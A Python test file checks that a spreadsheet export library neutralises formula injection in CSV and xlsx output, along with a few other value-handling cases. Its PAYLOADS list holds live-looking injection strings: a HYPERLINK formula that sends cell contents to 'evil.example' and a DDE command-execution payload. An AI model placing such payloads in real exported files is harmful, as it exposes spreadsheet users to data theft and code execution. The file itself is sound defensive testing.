import csv
import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment

from nrtd.spreadsheets import (
    csv_row,
    sheet_rows_xml,
    text_cell,
    with_rows,
    write_only_cell,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\uff1d1+1",
]


def test_csv_fields_that_start_a_formula_get_an_apostrophe_and_keep_their_text():
    out = io.StringIO()
    csv.writer(out).writerows([csv_row([payload, 7, "plain"]) for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[0] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows} == {"7"}
    assert {row[2] for row in rows} == {"plain"}


def test_xlsx_cells_stay_text_in_normal_and_write_only_workbooks():
    normal = Workbook()
    for row, payload in enumerate(PAYLOADS, start=1):
        text_cell(normal.active.cell(row=row, column=1), payload)
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet()
    for payload in PAYLOADS:
        sheet.append([write_only_cell(sheet, payload), 5])
    for book in (normal, streamed):
        buffer = io.BytesIO()
        book.save(buffer)
        buffer.seek(0)
        cells = [row[0] for row in load_workbook(buffer).worksheets[0].iter_rows()]
        assert [cell.value for cell in cells] == PAYLOADS
        assert {cell.data_type for cell in cells} == {"s"}


def _streamed(rows) -> list[tuple]:
    """``rows`` written by sheet_rows_xml into a workbook openpyxl saved with one header."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(["header"])
    text_style = write_only_cell(sheet, "", alignment=Alignment(wrap_text=True)).style_id
    date_style = write_only_cell(sheet, "", number_format="yyyy-mm-dd").style_id
    buffer = io.BytesIO()
    book.save(buffer)
    rows_xml = sheet_rows_xml(rows, first_row=2, text_style=text_style, date_style=date_style)
    data = with_rows(buffer.getvalue(), rows_xml, sheet="xl/worksheets/sheet1.xml")
    return list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())


def test_rows_written_as_sheet_xml_keep_formula_like_text_as_text():
    found = _streamed([[payload, 5] for payload in PAYLOADS])
    assert found[0][0].value == "header"
    texts = [row[0] for row in found[1:]]
    assert [cell.value for cell in texts] == PAYLOADS
    assert {cell.data_type for cell in texts} == {"s"}
    assert {cell.alignment.wrap_text for cell in texts} == {True}
    assert [row[1].value for row in found[1:]] == [5] * len(PAYLOADS)


def test_rows_written_as_sheet_xml_keep_every_kind_of_value():
    odd = '  <b>&amp; "quoted"\r\nline two  '
    found = _streamed(
        [
            [odd, datetime.date(2026, 12, 7), 2.5, True, "", None, "after the gaps"],
            ["bell\x07 and\x1f unit separator", "x" * 40000],
        ]
    )
    first, second = ([cell.value for cell in row] for row in found[1:])
    assert first[:4] == [odd, datetime.datetime(2026, 12, 7), 2.5, True]
    assert found[1][1].number_format == "yyyy-mm-dd"
    # An empty value is no cell: the row reads back with the blanks where they were.
    assert first[4:] == [None, None, "after the gaps"]
    # What XML cannot carry shows as U+FFFD; text is cut at Excel's 32,767 characters.
    assert second[0] == "bell\ufffd and\ufffd unit separator"
    assert second[1] == "x" * 32767


def test_rows_written_as_sheet_xml_refuse_a_value_they_cannot_write():
    with pytest.raises(TypeError):
        _streamed([[datetime.datetime(2026, 12, 7, 10, 0)]])
    with pytest.raises(TypeError):
        _streamed([[object()]])
